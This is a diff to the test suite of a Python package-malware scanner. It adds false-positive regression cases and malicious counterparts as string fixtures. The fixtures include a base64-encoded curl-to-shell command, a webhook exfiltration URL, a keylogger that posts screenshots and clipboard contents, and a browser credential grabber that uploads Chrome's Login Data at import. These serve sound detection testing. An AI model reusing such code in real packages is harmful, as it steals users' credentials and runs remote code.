@@ -655,10 +655,14 @@ def test_tests_nothing_imports_get_the_text_pass() -> None:
     decoded and executed in a test file is still found; a test file the package imports gets the full scan."""
     payload = base64.b64encode(b"import os\nos.system('curl http://45.61.136.12/x | sh')\n").decode()
     tests = {"tests/test_net.py": "import requests\n\ndef test_get():\n    requests.get('https://example.org')\n",
-             "tests/test_blob.py": f"import base64\nexec(base64.b64decode('{payload}'))\n"}
+             "tests/test_blob.py": f"import base64\nexec(base64.b64decode('{payload}'))\n",
+             "tests/test_hook.py": "import requests\n\nHOOK = 'https://webhook.site/0a1b2c3d-1111-2222-3333-444455556666'\n"}
     facts = facts_of(sdist("helperlib", "0.1", {"setup.py": _SETUP, "helperlib/__init__.py": "", **tests}))
-    assert facts.test_text_files == 2
+    assert facts.test_text_files == 3
     assert not [s for s in facts.signals if s.kind == "net.request"]
+    # the text pass still says where: the indicator's line, not the file's line 0
+    assert [(s.line, s.snippet[:4]) for s in facts.signals if s.kind == "endpoint.shady"
+            and s.file == "tests/test_hook.py"] == [(3, "HOOK")]
     assert [s for s in facts.signals if s.kind == "exec.decoded" and s.file == "tests/test_blob.py"]
     imported = sdist("helperlib", "0.1", {"setup.py": _SETUP, "helperlib/__init__.py": "from tests import test_net\n",
                                           **tests})
@@ -1036,3 +1040,102 @@ def test_analysis_time_budget_skips_the_remaining_files(monkeypatch: pytest.Monk
     facts = facts_of(pkg)
     assert any(s.startswith("helperlib/__init__.py: analysis time budget") for s in facts.skipped)
     assert not [s for s in facts.signals if s.file == "helperlib/__init__.py"]
+
+
+def test_tenth_held_out_batch_shapes() -> None:
+    """Causes behind the tenth held-out batch's false positives: a method named like a module function
+    (``re.search`` at import made an API client's ``search`` method run at import: firecrawl), a thread's
+    ``start()`` taken for a class's own ``start`` (g4f), ``exec`` of the ``__version__`` line picked with
+    ``next()`` (dm-tree), a source build that fetches a tarball and runs ``cmake`` with arguments built at
+    run time (pyorc), buildout's bootstrap.py that nothing installs (circus) and a hotkey hook for one key
+    read as a keylogger (gamesentenceminer)."""
+    client = ("import os, re, requests\n\ndef get_version():\n"
+              "    m = re.search(r'__version__ = (.*)', open(os.path.join(os.path.dirname(__file__), "
+              "'__init__.py')).read())\n    return m.group(1) if m else None\n\nversion = get_version()\n\n"
+              "class App:\n    def __init__(self, api_key=None):\n"
+              "        self.api_key = api_key or os.getenv('SERVICE_API_KEY')\n\n"
+              "    def search(self, query):\n"
+              "        return requests.post('https://api.example.org/v1/search', json={'q': query},\n"
+              "                             headers={'Authorization': f'Bearer {self.api_key}'})\n")
+    browser = ("import atexit, subprocess, threading, urllib.request\n\n"
+               "def _download(path):\n    urllib.request.urlretrieve('https://example.org/browser', path)\n\n"
+               "def shared_browser(path):\n    _download(path)\n    return subprocess.Popen([path, '--headless'])\n\n"
+               "class Session:\n    def start(self):\n        self.proc = shared_browser('/tmp/b')\n\n"
+               "def _close():\n    t = threading.Thread(target=print)\n    t.start()\n"
+               "    threading.Timer(1, print).start()\n\natexit.register(_close)\n")
+    setup = ("import os, setuptools\n\ndef _get_version():\n"
+             "    with open(os.path.join('helperlib', '__init__.py')) as f:\n"
+             "        version_line = next(line for line in f if line.startswith('__version__'))\n"
+             "        ns = {}\n        exec(version_line, ns)\n        return ns['__version__']\n\n"
+             "setuptools.setup(name='helperlib', version=_get_version(), packages=['helperlib'])\n")
+    build = ("import io, os, subprocess, tarfile, urllib.request\nfrom setuptools import setup\n"
+             "from setuptools.command.build_ext import build_ext\n\nclass BuildExt(build_ext):\n"
+             "    def _download_source(self):\n        buf = io.BytesIO()\n"
+             "        with urllib.request.urlopen('https://archive.apache.org/dist/orc/orc-2.3.1.tar.gz') as src:\n"
+             "            buf.write(src.read())\n        buf.seek(0)\n"
+             "        tarfile.open(fileobj=buf, mode='r:gz').extractall('deps')\n\n"
+             "    def _build_with_cmake(self):\n        args = ['-DBUILD_JAVA=OFF']\n"
+             "        if os.getenv('DEBUG'):\n            args.append('-DCMAKE_BUILD_TYPE=DEBUG')\n"
+             "        cmake_cmd = ['cmake', '..'] + args\n"
+             "        subprocess.check_call(cmake_cmd, cwd='deps/build')\n\n"
+             "    def run(self):\n        self._download_source()\n        self._build_with_cmake()\n"
+             "        super().run()\n\nsetup(name='helperlib', version='0.1', packages=['helperlib'],\n"
+             "      cmdclass={'build_ext': BuildExt})\n")
+    bootstrap = ("import os, sys\nfrom urllib.request import urlopen\n\ndef use_distribute():\n    ez = {}\n"
+                 "    exec(urlopen('http://python-distribute.org/distribute_setup.py').read(), ez)\n"
+                 "    ez['use_setuptools'](to_dir='.', download_delay=0)\n\nif __name__ == '__main__':\n"
+                 "    use_distribute()\n")
+    hotkeys = ("import keyboard, mss\nfrom PIL import ImageGrab\n\ndef register(key, callback):\n"
+               "    return keyboard.on_press_key(key, lambda _: callback())\n\n"
+               "def grab():\n    with mss.mss() as sct:\n        shot = sct.grab(sct.monitors[0])\n"
+               "    return shot, ImageGrab.grabclipboard()\n")
+    base = {"setup.py": _SETUP, "helperlib/__init__.py": "__version__ = '0.1'\n"}
+    cases: list[dict[str, str]] = [
+        {"helperlib/__init__.py": "__version__ = '0.1'\nfrom . import client\n", "helperlib/client.py": client},
+        {"helperlib/__init__.py": "from . import browser\n", "helperlib/browser.py": browser},
+        {"setup.py": setup}, {"setup.py": build}, {"bootstrap.py": bootstrap},
+        {"helperlib/__init__.py": "", "helperlib/hotkey.py": hotkeys},
+    ]
+    for files in cases:
+        result, findings = verdict(sdist("helperlib", "0.1", {**base, **files}))
+        assert result == "clean", (sorted(files), findings)
+    # the same shapes that do run, send or record are still judged: the method called on an instance made
+    # at import, the thread's target that downloads and runs, the exec of a line fetched from the network,
+    # a build that runs the program it downloaded, the bootstrap that setup.py imports, a hook on every key
+    bad: list[dict[str, str]] = [
+        {"helperlib/__init__.py": "from . import client\n",
+         "helperlib/client.py": client + "\nApp().search('x')\n"},
+        {"helperlib/__init__.py": "from . import browser\n",
+         "helperlib/browser.py": browser + "\ns = Session()\ns.start()\n"},
+        {"setup.py": setup.replace(
+            "with open(os.path.join('helperlib', '__init__.py')) as f:",
+            "import urllib.request\n    with urllib.request.urlopen('http://x.example/v') as f:")},
+        {"setup.py": build.replace("cmake_cmd = ['cmake', '..'] + args", "cmake_cmd = ['deps/orc/bin/tool'] + args")},
+        {"bootstrap.py": bootstrap, "setup.py": "import bootstrap\n" + _SETUP},
+        {"helperlib/__init__.py": "from . import hotkey\n",
+         "helperlib/hotkey.py": hotkeys.replace("keyboard.on_press_key(key, ", "keyboard.on_press(") +
+         "\nimport requests\nrequests.post('https://x.example/k', data=str(grab()))\n"},
+    ]
+    for files in bad:
+        result, findings = verdict(sdist("helperlib", "0.1", {**base, **files}))
+        assert result != "clean", sorted(files)
+
+
+def test_bound_methods_handed_to_threads_run_with_their_caller() -> None:
+    """A grabber made at import starts its stealers as threads from a tuple of bound methods (Blank
+    Grabber's ``for func in (self.StealBrowserData, ...): Thread(target=func).start()``): the methods run at
+    import. Before, they were reached only by accident, through ``subprocess.run`` naming a local ``run``."""
+    grabber = ("import os, shutil, requests\nfrom threading import Thread\n\nclass Grabber:\n"
+               "    def __init__(self):\n        threads = []\n"
+               "        for func in (self.steal_browsers, self.system_info):\n"
+               "            t = Thread(target=func)\n            t.start()\n            threads.append(t)\n\n"
+               "    def system_info(self):\n        return os.getlogin()\n\n"
+               "    def steal_browsers(self):\n"
+               "        src = os.path.join(os.getenv('LOCALAPPDATA'), 'Google', 'Chrome', 'User Data', 'Default',"
+               " 'Login Data')\n        shutil.copy(src, 'ld.db')\n"
+               "        requests.post('https://collector.example.org/upload', files={'f': open('ld.db', 'rb')})\n\n"
+               "Grabber()\n")
+    facts = facts_of(sdist("helperlib", "0.1", {"setup.py": _SETUP, "helperlib/__init__.py": "from . import grab\n",
+                                                "helperlib/grab.py": grabber}))
+    steals = [s for s in facts.signals if s.kind == "source.credential-file" and s.file == "helperlib/grab.py"]
+    assert steals and all(s.phase == "import" for s in steals), [(s.kind, s.phase) for s in steals]
